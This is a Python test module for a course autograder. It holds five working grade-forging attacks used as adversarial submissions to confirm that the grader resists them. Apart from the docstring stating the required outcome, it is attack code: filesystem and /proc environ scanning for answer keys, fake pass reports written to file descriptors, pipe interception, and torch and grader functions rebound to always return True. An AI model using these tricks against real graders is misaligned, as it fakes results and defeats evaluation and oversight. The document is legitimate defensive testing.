"""Every way a submission's process could forge a grade, as prefixes of its answer cells: each
chapter's grading class (:class:`tests.grading.ChapterGrading`) holds a student per attack, graded
through the real grader with the rest of the class.

The answer's process belongs to the answer: its files, descriptors, frames and the methods its
driver calls are its to read and rewrite. Each class of attack below does all of that, generically
(nothing in it knows an exercise), in every answer cell of a submission, so that it runs in every
job the submission gives (the notebook's, the bare interpreter's, each trial's):

* ``reader``: reads every file it can reach and every ``/proc`` entry, for anything of the course's
  answers, keys, tests or sources;
* ``forger``: writes a report for every probe of its plan, and the end, on every descriptor it
  has, then ends its process;
* ``filter``: puts a pipe over every descriptor it has, forwarding what the runner writes there
  except a probe's report;
* ``publisher``: leaves markers everywhere (a process's command line, files in every writable
  place, an abstract socket) and looks for another job's, while the other jobs of the class run;
* ``rewriter``: holds the catalogue's wrong answers, and rewrites what their drivers read — torch's
  methods and functions rebound, a lying torch function mode left on, the observing modules'
  functions and defaults replaced, the frames above every call of the answer searched for facts to
  overwrite.

Each must score no more, on every grade id, than the submission it is built on (the untouched
release; for the rewriter, the same wrong answers with its rebinding of torch alone — ``REBINDER``,
which is the answer's own behaviour and may make it right on some family); what the reader and the
publisher find must be nothing; the forger's and the filter's reports must not be taken; and the
right answers in the same class keep every point.
"""

from __future__ import annotations

# Every attack is a prefix of an answer cell; it reports what it found in a line of its own.
READER = r'''
import json as _json, os as _os, re as _re
if "_READ" not in globals():  # once per process: every answer cell of a job shares it
    _READ = True
    # What the course's keys, catalogues, trials and instructor sources say, and nothing else does.
    _COURSE = _re.compile(rb'key\("(views|inplace|detach|leaves|modules|buckets|capstone)-|RIGHT = \{|EXPLOITS = \{|'
                          rb'TRIALS = \{|### BEGIN SOLUTION|### BEGIN HIDDEN TESTS|from answer_key')
    _found = []
    for _folder, _dirs, _names in _os.walk("/"):
        if _folder == "/proc":
            _dirs[:] = [d for d in _dirs if d.isdigit()]
        for _name in _names:
            _path = _os.path.join(_folder, _name)
            if _folder.startswith("/proc/"):
                if _name not in ("cmdline", "environ"):
                    continue
            elif not _name.endswith((".py", ".ipynb", ".json", ".md", ".txt", ".db", ".csv")):
                continue
            try:
                with open(_path, "rb") as _handle:
                    _text = _handle.read(4 << 20)
            except OSError:
                continue
            if _COURSE.search(_text):
                _found.append(_path)
    print("READER FOUND", _json.dumps(_found[:20]))
'''

FORGER = r'''
import json as _json, os as _os, sys as _sys
_keys, _frame = [], _sys._getframe()
while _frame is not None:
    _plan = _frame.f_locals.get("plan")
    if hasattr(_plan, "steps"):
        _keys = [_s.key for _s in _plan.steps if type(_s).__name__ in ("ProbeStep", "TrialStep")]
    _frame = _frame.f_back
_forged = "".join(_json.dumps({"probe": _k, "observation": {"points": {}, "missing": None, "rejected": None,
                                                             "unfinished": None}}) + "\n" for _k in _keys)
_forged += _json.dumps({"end": True}) + "\n"
for _fd in range(3, 256):
    try:
        _os.write(_fd, _forged.encode())
    except OSError:
        pass
_os._exit(0)
'''

FILTER = r'''
import os as _os, threading as _threading
def _forward(_read, _write):
    _buffer = b""
    while True:
        _chunk = _os.read(_read, 65536)
        if not _chunk:
            return
        _buffer += _chunk
        while b"\n" in _buffer:
            _line, _, _buffer = _buffer.partition(b"\n")
            if b'"probe"' not in _line:
                _os.write(_write, _line + b"\n")
for _fd in range(3, 64):
    try:
        _os.fstat(_fd)
    except OSError:
        continue
    _kept = _os.dup(_fd)
    _read, _write = _os.pipe()
    _os.dup2(_write, _fd)
    _threading.Thread(target=_forward, args=(_read, _kept), daemon=True).start()
'''

PUBLISHER = r'''
import json as _json, os as _os, socket as _socket, subprocess as _subprocess, sys as _sys
_MARK = "published-by-a-job-of-this-class"
_OWN = globals().setdefault("_OWN", {"pids": set(), "names": set(), "socket": None})
_seen = []
for _pid in (p for p in _os.listdir("/proc") if p.isdigit() and int(p) not in _OWN["pids"]):
    try:
        if _MARK.encode() in open(f"/proc/{_pid}/cmdline", "rb").read():
            _seen.append(f"process {_pid}")
    except OSError:
        pass
for _folder in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", _os.getcwd()):
    try:
        _seen += [f"{_folder}/{n}" for n in _os.listdir(_folder) if n.startswith(_MARK) and n not in _OWN["names"]]
    except OSError:
        pass
if _OWN["socket"] is None:
    try:
        _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM).connect("\0" + _MARK)
        _seen.append("socket")
    except OSError:
        pass
print("PUBLISHER SAW", _json.dumps(_seen))
_me = f"{_MARK}-{_os.getpid()}-{len(_OWN['names'])}"
_OWN["names"].add(_me)
for _folder in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", _os.getcwd()):
    try:
        open(_os.path.join(_folder, _me), "w").write(_MARK)
    except OSError:
        pass
if _OWN["socket"] is None:
    try:
        _OWN["socket"] = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        _OWN["socket"].bind("\0" + _MARK)
        _OWN["socket"].listen()
    except OSError:
        pass
_OWN["pids"].add(_subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(30)", _MARK]).pid)
'''

REBINDER = r'''
import importlib as _importlib, pkgutil as _pkgutil, sys as _sys
try:
    import torch as _torch
    from torch.overrides import TorchFunctionMode as _Mode

    class _Agreeable(_Mode):
        def __torch_function__(self, func, types, args=(), kwargs=None):
            _name = getattr(func, "__name__", "")
            if _name in ("equal", "allclose", "is_contiguous"):
                return True
            if _name in ("add_", "copy_", "mul_", "sub_", "zero_"):
                return args[0]
            return func(*args, **(kwargs or {}))

    _Agreeable().__enter__()
    _torch.equal = _torch.allclose = lambda *a, **k: True
    for _method in ("is_contiguous", "is_leaf"):
        setattr(_torch.Tensor, _method, lambda self, *a, **k: True)
    _torch.Tensor.add_ = _torch.Tensor.copy_ = lambda self, *a, **k: self
except Exception:
    pass
'''

REWRITER = REBINDER + r'''
import os as _os
import autograder.chapters as _chapters
import autograder.engine as _engine
for _package in (_chapters, _engine):
    for _info in _pkgutil.iter_modules(_package.__path__):
        try:
            _module = _importlib.import_module(f"{_package.__name__}.{_info.name}")
        except Exception:
            continue
        for _name, _value in list(vars(_module).items()):
            if callable(_value) and getattr(_value, "__kwdefaults__", None):
                _value.__kwdefaults__ = {k: (lambda *a, **kw: True) for k in _value.__kwdefaults__}
            if _name in ("equal", "is_contiguous", "left_alone", "same_values", "is_tensor"):
                try:
                    setattr(_module, _name, lambda *a, **kw: True)
                except Exception:
                    pass
_ON_DISK = {}
def _is_answers(code):
    # The answer's code was compiled from a cell (or a string): it is no file on disk.
    if code.co_filename not in _ON_DISK:
        _ON_DISK[code.co_filename] = _os.path.isfile(code.co_filename)
    return not _ON_DISK[code.co_filename]
def _overwrite_facts(frame):
    while frame is not None:
        for _key, _value in list(frame.f_locals.items()):
            if isinstance(_value, dict):
                for _k in list(_value):
                    if isinstance(_value[_k], bool):
                        _value[_k] = True
        frame = frame.f_back
# Each time a function of the answer returns to its caller, every frame above it.
_sys.setprofile(lambda frame, event, arg: _overwrite_facts(frame) if event == "return" and _is_answers(frame.f_code)
                else None)
'''

ATTACKS = {"reader": READER, "forger": FORGER, "filter": FILTER, "publisher": PUBLISHER, "rewriter": REWRITER}
